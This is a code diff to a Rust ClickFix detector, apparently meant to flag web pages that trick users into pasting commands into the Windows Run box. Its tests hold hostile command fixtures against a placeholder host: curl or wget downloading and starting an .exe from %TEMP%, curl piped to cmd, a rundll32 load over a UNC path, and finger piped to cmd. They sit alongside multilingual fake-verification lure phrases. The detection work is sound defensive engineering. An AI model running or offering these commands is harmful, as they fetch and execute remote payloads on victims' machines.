@@ -62,6 +62,9 @@ pub enum Shape {
     Certutil,
     /// `bitsadmin /transfer`.
     Bitsadmin,
+    /// `curl.exe`/`wget` saving a URL to a Windows path and starting it
+    /// (`curl.exe … -o %TEMP%\\x.exe & start %TEMP%\\x.exe`).
+    DownloadStart,
     /// `base64 -d | sh`, `echo … | base64 --decode | bash`.
     Base64Shell,
     /// `curl`/`wget` downloading a file, `chmod +x` and running it.
@@ -88,6 +91,7 @@ impl Shape {
             Shape::MsiexecUrl => "msiexec_url",
             Shape::Certutil => "certutil_download",
             Shape::Bitsadmin => "bitsadmin_transfer",
+            Shape::DownloadStart => "download_and_start",
             Shape::Base64Shell => "base64_to_shell",
             Shape::DownloadExec => "download_and_run",
             Shape::Osascript => "osascript",
@@ -121,6 +125,8 @@ pub struct Command {
     pub shapes: Vec<Shape>,
     /// Whitespace padding hides the command behind a comment or far to the right.
     pub padded: bool,
+    /// The command reaches out of the machine: a URL, a UNC path, `finger`.
+    pub remote: bool,
     /// The command's own comment reads as a verification pretext ("# I am not a robot").
     pub comment_pretext: bool,
     /// The command, defanged and cut short: safe to show, never executable as shown.
@@ -136,6 +142,15 @@ impl Command {
     }
     pub fn strong(&self) -> bool {
         self.shapes.iter().any(|s| s.strong())
+    }
+    /// A Windows command worth warning about next to run-dialog steps alone. A bare `cmd /c` or
+    /// `rundll32` that fetches nothing is what IT help articles give for the Run box
+    /// (`cmd /c ipconfig /flushdns`, `rundll32 sysdm.cpl,EditEnvironmentVariables`).
+    pub fn windows_payload(&self) -> bool {
+        self.shapes.iter().any(|s| {
+            s.platform() == Platform::Windows
+                && (self.remote || !matches!(s, Shape::Cmd | Shape::Rundll32))
+        })
     }
 }
 
@@ -226,6 +241,29 @@ fn piped_to_shell(flat: &str) -> bool {
             .find(|t| *t != "sudo" && !t.starts_with('-'))
             .is_some_and(|t| SHELLS.contains(&program(t)))
     })
+}
+
+/// A download saved to a Windows path (`-o %TEMP%\\x.exe`, `--output C:\\…`) and then started:
+/// `start`/`Start-Process`, or the saved path run as a later command.
+fn saves_and_starts(toks: &[&str]) -> bool {
+    let saved = toks.windows(2).enumerate().find_map(|(i, w)| {
+        matches!(w[0], "-o" | "--output" | "--output-document" | "-outfile")
+            .then_some((i + 2, w[1]))
+    });
+    let Some((next, path)) = saved else {
+        return false;
+    };
+    let windows_path = path.contains(['\\', '%'])
+        || path.starts_with("$env:")
+        || [
+            ".exe", ".msi", ".bat", ".cmd", ".scr", ".hta", ".vbs", ".ps1",
+        ]
+        .iter()
+        .any(|e| path.ends_with(e));
+    let started = toks[next.min(toks.len())..]
+        .iter()
+        .any(|t| matches!(program(t), "start" | "start-process" | "saps") || *t == path);
+    windows_path && started
 }
 
 /// Shapes in the flattened text.
@@ -338,6 +376,9 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if prog("bitsadmin") && (has(flat, "/transfer") || has(flat, "/addfile")) {
         out.push(Shape::Bitsadmin);
     }
+    if (prog("curl") || prog("wget")) && has_url(flat) && saves_and_starts(&toks) {
+        out.push(Shape::DownloadStart);
+    }
 
     // Unix and macOS.
     let fetch = prog("curl") || prog("wget");
@@ -388,6 +429,7 @@ const ALL_SHAPES: &[Shape] = &[
     Shape::MsiexecUrl,
     Shape::Certutil,
     Shape::Bitsadmin,
+    Shape::DownloadStart,
     Shape::Base64Shell,
     Shape::DownloadExec,
     Shape::Osascript,
@@ -457,6 +499,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
     Some(Command {
         shapes,
         padded: padding.is_some(),
+        remote: has_url(&flat) || has_word(&flat, "finger"),
         comment_pretext,
         shown: defang(cmd_part),
         comment: defang(&comment.chars().take(60).collect::<String>()),
@@ -727,7 +770,7 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
         .map(|h| h.weight)
         .fold(0.0f32, f32::max)
         >= 1.0;
-    let windows_run = run_dialog && command.runs_on(Platform::Windows);
+    let windows_run = run_dialog && command.windows_payload();
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
     // Terminal"); only a shape no install command has makes them ClickFix.
     let mac_run = terminal
@@ -882,6 +925,60 @@ mod tests {
     }
 
     #[test]
+    fn windows_download_then_start() {
+        // curl.exe ships with Windows: save a file under %TEMP% and start it.
+        for clip in [
+            "curl.exe -s https://x.example/u.exe -o %TEMP%\\x.exe & start %TEMP%\\x.exe",
+            "cmd /c curl -L -o %APPDATA%\\u.exe http://x.example/u && %APPDATA%\\u.exe",
+            "curl --output C:\\Users\\Public\\s.bat https://x.example/s && start /min C:\\Users\\Public\\s.bat",
+            "wget -O $env:TEMP\\a.exe http://x.example/a; Start-Process $env:TEMP\\a.exe",
+        ] {
+            assert!(
+                shapes_of(clip).contains(&Shape::DownloadStart),
+                "{clip}: {:?}",
+                shapes_of(clip)
+            );
+        }
+        assert!(judged(
+            "curl.exe -L https://x.example/r.exe -o %TEMP%\\r.exe & start %TEMP%\\r.exe",
+            "Error 0x80070005. To repair, press Win + R, paste with Ctrl + V and press Enter."
+        ));
+        // Saving a file is not running it; a Unix download is not a Windows start.
+        for clip in [
+            "curl -o %TEMP%\\report.csv https://x.example/report.csv",
+            "curl -o /tmp/a.tar.gz https://x.example/a.tar.gz && tar xzf /tmp/a.tar.gz",
+            "curl -o setup.exe https://x.example/setup.exe",
+        ] {
+            assert!(!shapes_of(clip).contains(&Shape::DownloadStart), "{clip}");
+        }
+    }
+
+    #[test]
+    fn helpdesk_run_box_commands_are_not_clickfix() {
+        // An IT article teaching the Run box copies local commands: no download, no warning.
+        let help = "How to open the Run dialog: press the Windows key + R, paste the command \
+                    below into the Run box and press Enter.";
+        for clip in [
+            "cmd /c ipconfig /flushdns",
+            "rundll32.exe sysdm.cpl,EditEnvironmentVariables",
+            "rundll32 user32.dll,LockWorkStation",
+        ] {
+            assert!(recognise(clip).is_some(), "{clip}");
+            assert!(!judged(clip, help), "{clip}");
+        }
+        // The same steps with a command that reaches out are ClickFix.
+        for clip in [
+            "cmd /c curl -s http://x.example/p | cmd",
+            "rundll32 \\\\x.example@SSL\\s\\a.dll,Start",
+            "finger s@x.example | cmd",
+        ] {
+            assert!(judged(clip, help), "{clip}");
+        }
+        // A pretext or padding still makes a local cmd ClickFix.
+        assert!(judged("cmd /c calc", "I'm not a robot"));
+    }
+
+    #[test]
     fn unix_and_mac_shapes() {
         assert_eq!(
             shapes_of("curl -fsSL https://x.example/i.sh | sh"),
@@ -1016,6 +1113,8 @@ mod tests {
             "Tryck på Windows-tangenten + R och klistra in",
             "Tryk på Windows-tasten + R og indsæt",
             "Trykk Windows-tasten + R og lim inn",
+            "Mantenga presionada la tecla de Windows y pulse R, pegue el código",
+            "Pulse la tecla de Windows + R y después pulse Intro",
         ] {
             assert!(judged(clip, text), "{text}");
         }
@@ -1039,6 +1138,9 @@ mod tests {
             "我不是机器人",
             "Jag är inte en robot",
             "Jeg er ikke en robot",
+            "Verifique que es un ser humano",
+            "Verifica di essere un essere umano",
+            "Confirme que você não é um robô",
         ] {
             assert!(judged("cmd /c calc", text), "{text}");
         }
